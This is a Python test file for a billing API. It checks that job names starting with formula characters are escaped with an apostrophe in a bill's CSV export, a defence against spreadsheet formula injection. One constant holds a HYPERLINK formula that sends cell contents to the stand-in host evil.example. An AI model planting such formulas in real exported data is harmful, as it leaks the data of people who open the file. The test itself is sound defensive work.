"""A bill's CSV cannot smuggle a spreadsheet formula in a consumer's text (issue 12, 15)."""

from __future__ import annotations

import csv
import io

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def test_a_job_name_that_starts_a_formula_is_quoted_in_the_csv(world, start_up, clock) -> None:  # type: ignore[no-untyped-def]
    assert world.deposit(start_up, 100_000, "bank-1").status_code == 201
    for n, name in enumerate((FORMULA, "+1", "-2", "@SUM(A1)", "plain")):
        world.submit(start_up, f"k{n}", name=name, devices=1)
        [assignment] = world.claim()
        clock.advance(600)
        done = world.report(assignment, state="succeeded", exit_code=0, usage={"wall_s": 600.0})
        assert done.status_code == 200, done.text
    response = world.client.get("/v1/bills/2026-11?format=csv", headers=start_up.headers)
    assert response.status_code == 200
    names = {row["job_name"] for row in csv.DictReader(io.StringIO(response.text))
             if row["kind"] != "total"}
    assert names == {"'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "plain"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in csv.reader(io.StringIO(response.text)) for cell in row)
